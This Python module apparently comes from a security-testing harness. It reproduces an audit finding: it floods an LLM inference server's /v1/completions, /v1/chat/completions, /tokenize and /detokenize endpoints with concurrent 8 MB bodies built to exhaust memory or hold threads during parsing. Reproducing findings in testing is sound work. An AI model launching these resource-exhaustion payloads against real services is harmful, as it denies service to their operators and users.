"""Finding 9: bodies of 8 MB that are tokenised, parsed and counted before anyone asks how much."""

import asyncio
import itertools
import json

import httpx

from tools.attacks.target import Target

NAME = "large bodies"

BODY_BYTES = 8 * 2**20 - 200
AT_ONCE = 8
JSON = {"content-type": "application/json"}


def bodies() -> list[tuple[str, bytes]]:
    """Paths and what is posted there: each once filled a router's memory, or held its thread."""
    marks = "\ue000end\ue000" * 900_000
    messages = [{"role": "user", "content": "x"}, {"role": "assistant", "content": marks}]
    continued = {"continue_final_message": True, "add_generation_prompt": False}
    spaces = [{"role": "user", "content": " " * BODY_BYTES}]
    keys = b",".join(b'"%x":0' % number for number in range(BODY_BYTES // 10))
    lists = b"[1]," * (BODY_BYTES // 4 - 10)
    return [
        ("/v1/chat/completions", _json({"messages": spaces})),
        ("/v1/completions", _json({"prompt": "a b c " * (BODY_BYTES // 7)})),
        ("/tokenize", _json({"messages": messages, **continued})),
        ("/v1/completions", b'{"prompt":[' + lists + b"[1]]}"),
        ("/v1/chat/completions", b"{" + keys + b"}"),
        ("/detokenize", b'{"tokens":[' + b"1," * (BODY_BYTES // 2 - 20) + b"1]}"),
    ]


async def attack(target: Target) -> None:
    """Eight at a time, as fast as the limit of requests lets them in."""
    turns = itertools.cycle(bodies())
    async with target.client() as client, asyncio.TaskGroup() as tasks:
        for _ in range(AT_ONCE):
            tasks.create_task(_post_for_ever(target, client, turns))


async def _post_for_ever(
    target: Target, client: httpx.AsyncClient, turns: "itertools.cycle[tuple[str, bytes]]"
) -> None:
    while await target.turn():
        path, body = next(turns)
        await target.post(client, path, content=body, headers=JSON)


def _json(value: object) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode()
